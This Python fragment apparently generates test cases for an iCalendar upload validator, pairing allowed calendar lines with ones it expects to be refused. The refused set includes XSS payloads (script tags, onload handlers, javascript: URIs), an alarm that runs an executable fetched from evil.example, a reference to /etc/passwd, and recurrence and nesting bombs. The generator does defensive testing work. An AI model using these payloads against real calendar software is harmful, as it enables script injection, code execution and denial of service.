_EVENT = "BEGIN:VEVENT\r\nUID:550e8400-e29b-41d4-a716-{uid}@so.example\r\nDTSTAMP:20240101T010000Z\r\nDTSTART:20240611T010000Z\r\nSUMMARY:Họp giao ban\r\n{more}END:VEVENT\r\n"
_BAD_LINES = (
    "BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:ftp://evil.example/a.exe\r\nTRIGGER:-PT5M\r\nEND:VALARM", "BEGIN:VALARM\r\nACTION;X-A=1:email\r\nTRIGGER:-PT5M\r\nEND:VALARM",
    "ATTACH;ENCODING=BASE64;VALUE=BINARY:TVqQAAMAAAA=", "ATTACH;VALUE=BINARY;FMTTYPE=application/x-msdownload;ENCODING=BASE64:TVqQ", "ATTACH:file:///etc/passwd", "ATTACH:javascript:alert(1)", f"ATTACH:\\\\\\\\{EVIL}\\\\a",
    "URL:javascript:alert(1)", "URL:java\r\n script:alert(1)", "URL;VALUE=URI:data:text/html,<b>a</b>", "URL:vbscript:a", "URL:file://evil.example/a", "URL:ms-msdt:/id", "CONFERENCE;VALUE=URI:javascript:a", "IMAGE;VALUE=URI:file:///a",
    "DESCRIPTION:<script>alert(1)</script>", "DESCRIPTION:<scr\r\n ipt>alert(1)</script>", "X-ALT-DESC;FMTTYPE=text/html:<html><body onload=alert(1)>a</body></html>", "X-ALT-DESC;FMTTYPE=text/html:<img src=https://evil.example/a.gif>",
    "X-ALT-DESC;FMTTYPE=text/html:<a href='javascript:a'>a</a>", "DESCRIPTION:<iframe src=//evil.example></iframe>", 'DESCRIPTION;ALTREP="javascript:alert(1)":a', 'DESCRIPTION;ALTREP="data:text/html,%3Cscript%3Ea%3C/script%3E":a',
    "RRULE:FREQ=SECONDLY", "RRULE:FREQ=MINUTELY;INTERVAL=1", "RRULE:FREQ=DAILY;COUNT=99999999", "RRULE:COUNT=999999999999;FREQ=DAILY", "EXRULE:FREQ=SECONDLY", "RRULE:FREQ=DAILY;BYSECOND=0,1,2,3,4,5",
    "LOCATION:javascript:alert(1)", "dong khong phai cua lich", "SUMMARY;:\0a", "BEGIN:VALARM", "END:VALARM", "SOURCE;VALUE=URI:file:///a", "SUMMARY:<svg onload=alert(1)>",
)  # fmt: skip
_GOOD_LINES = (
    "URL:https://so.example/lich", "URL:mailto:a@b.example", "DESCRIPTION:dài\\, gấp\r\n  hai dòng\\n- một (a)", "RRULE:FREQ=WEEKLY;BYDAY=MO;COUNT=52", "RRULE:FREQ=YEARLY", "RRULE:FREQ=MONTHLY;BYMONTHDAY=15;UNTIL=20251231T000000Z", "RRULE:FREQ=DAILY;COUNT=365",
    "BEGIN:VALARM\r\nACTION:DISPLAY\r\nDESCRIPTION:Nhắc\r\nTRIGGER:-PT15M\r\nEND:VALARM", "BEGIN:VALARM\r\nACTION:AUDIO\r\nTRIGGER:-PT15M\r\nATTACH;VALUE=URI:Basso\r\nEND:VALARM", "ATTACH;FILENAME=ke-hoach.pdf;FMTTYPE=application/pdf:https://drive.example/a",
    'X-ALT-DESC;FMTTYPE=text/html:<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2//EN">\\n<HTML>\\n<HEAD>\\n<META NAME="Generator" CONTENT="MS Exchange">\\n</HEAD>\\n<BODY>\\n<P>Họp</P>\\n</BODY>\\n</HTML>',
    "DESCRIPTION:<html-blob><u></u>Họp <a href=\"https://meet.example/a\">tại đây</a><br></html-blob>", 'DESCRIPTION;ALTREP="data:text/html,%3Cbody%3EHọp%3C%2Fbody%3E":Họp', 'DESCRIPTION;ALTREP="CID:part1@so.example":Họp',
    'ATTENDEE;CN="Văn phòng: Sở";ROLE=REQ-PARTICIPANT:mailto:vp@so.example', "ORGANIZER;CN=Sở:mailto:so@so.example", "LOCATION:Phòng họp số 2: tầng 3", "SUMMARY:Học JavaScript: bài 1 < bài 2", "CATEGORIES:Họp,Thi đua", "GEO:20.5;105.9",
    "X-MICROSOFT-CDO-BUSYSTATUS:BUSY", "X-GOOGLE-CONFERENCE:https://meet.example/a", "CLASS:PUBLIC", "DESCRIPTION:\u2028xuống dòng", "COMMENT:file: kế hoạch.docx", "TRANSP:OPAQUE", "EXDATE;TZID=Asia/Ho_Chi_Minh:20240611T080000", "DESCRIPTION:",
    "X-APPLE-STRUCTURED-LOCATION;VALUE=URI;X-TITLE=Sở:geo:20.5,105.9", "SEQUENCE:0", "RDATE;VALUE=DATE:20240611,20240612", "X-MOZ-GENERATION:2",
)  # fmt: skip


def calendars(random: Random, number: int) -> Case:
    """iCalendar with orders, links and bombs, and calendars as Outlook, Google and Thunderbird write them."""
    uid = f"{random.randrange(10**12):012}"

    def calendar(*lines: str, line: str = "\r\n") -> bytes:
        events = "".join(
            _EVENT.format(uid=f"{uid}-{at}", more=f"{one}\r\n" if one else "") for at, one in enumerate(lines)
        )
        method = random.choice(("", "METHOD:PUBLISH\r\n", "METHOD:REQUEST\r\n"))
        zone = random.choice(
            (
                "",
                "BEGIN:VTIMEZONE\r\nTZID:Asia/Ho_Chi_Minh\r\nBEGIN:STANDARD\r\nDTSTART:19700101T000000\r\nTZOFFSETFROM:+0700\r\nTZOFFSETTO:+0700\r\nEND:STANDARD\r\nEND:VTIMEZONE\r\n",
            )
        )
        made = f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Sở//Lịch//VI\r\n{method}{zone}{events}END:VCALENDAR\r\n"
        return made.replace("\r\n", line).encode()

    good = calendar(random.choice(_GOOD_LINES))
    kind = random.choice(("bad", "bad", "bad", "good", "good", "good", "other", "says"))
    match kind:
        case "bad":
            bad = random.choice(_BAD_LINES)
            lines = random.sample((bad, random.choice(_GOOD_LINES)), 2)
            return _case(
                "calendars", number, repr(bad), "refused", "ics", calendar(*lines, line=random.choice(("\r\n", "\n")))
            )
        case "good":
            lines = random.sample(_GOOD_LINES, random.randrange(1, 4))
            return _case(
                "calendars",
                number,
                repr(lines),
                "clean",
                "ics",
                calendar(*lines, line=random.choice(("\r\n", "\r\n", "\n"))),
            )
        case "says":
            told, outcome = random.choice(((CITIZEN, "refused"), (HARMLESS_NUMBER, "clean")))
            field = random.choice(
                (
                    "DESCRIPTION",
                    "SUMMARY",
                    "LOCATION",
                    "COMMENT",
                    "CONTACT",
                    "X-WR-CALDESC",
                    "X-ALT-DESC;FMTTYPE=text/html",
                )
            )
            return _case(
                "calendars",
                number,
                f"says {told} in {field}",
                outcome,
                "ics",
                calendar(f"{field}:Số {told[:6]}\r\n {told[6:]}"),
            )
    folded = calendar(f"DESCRIPTION:{'Kế hoạch tuyên truyền về thi đua, khen thưởng ' * 5}")
    others: dict[str, tuple[Outcome, bytes]] = {
        "letters cut by a fold": ("clean", b"\r\n".join(b"\r\n ".join(row[at : at + 75] for at in range(0, max(len(row), 1), 75)) for row in folded.split(b"\r\n"))),
        "a mark before": ("clean", b"\xef\xbb\xbf" + good),
        "two calendars": ("clean", good + good),
        "cut": ("refused", good[: random.randrange(1, len(good) - 6)]),
        "something behind": ("refused", good + random.choice((b"<html>", b"MZ", b"X:1\r\n", zipped_parts({"a": b"b"})))),
        "something before": ("refused", random.choice((b"X:1\r\n", b"<html>", b"MZ")) + good),
        "another kind": ("refused", random.choice((b"", b"B", made_pdf(), zipped_parts({"a": b"b"}), "Lịch họp".encode(), b"BEGIN:VCARD\r\nEND:VCARD\r\n"))),
        "crossed": ("refused", good.replace(b"END:VEVENT", b"END:VTODO")),
        "between two": ("refused", good + b"X-A:1\r\n" + good),
        "deep": ("refused", b"BEGIN:VCALENDAR\r\n" + b"BEGIN:VEVENT\r\n" * 50_000 + b"END:VCALENDAR\r\n"),
        "UTF-16": ("refused", good.decode().encode("utf-16")),
        "many events": ("clean", calendar(*[""] * 2000)),
    }  # fmt: skip
    label = random.choice(list(others))
    return _case("calendars", number, label, others[label][0], "ics", others[label][1])


FAMILIES: dict[str, Make] = {"pdf": pdfs, "office": office, "tables": tables, "calendars": calendars}
